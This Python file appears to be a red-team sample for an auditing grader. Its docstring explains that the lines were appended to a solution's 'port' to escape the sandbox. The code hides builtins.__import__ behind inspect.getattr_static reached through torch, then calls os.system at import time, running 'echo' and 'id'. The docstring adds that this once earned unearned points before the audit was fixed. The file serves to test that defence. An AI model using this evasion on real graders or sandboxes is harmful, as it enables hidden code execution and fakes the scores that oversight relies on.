"""Attack (red team, round 2): the solution's port with these lines appended. inspect is reached as an attribute of
a torch module, its getattr_static finds builtins.__import__, and os.system runs in the worker at import. Before the
fix the port still got its 11 CPU points, and the command's output was in the worker's log. The port itself is left
out here: the audit refuses the file on these lines alone."""
import torch

_get = torch.nn.modules.module.inspect.getattr_static
_imp = _get(_get(torch.nn.modules.module.inspect, "buil" + "tins"), "__imp" + "ort__")
_os = _imp("o" + "s")
_get(_os, "system")("echo PORT-RCE-OK >&2; id >&2")
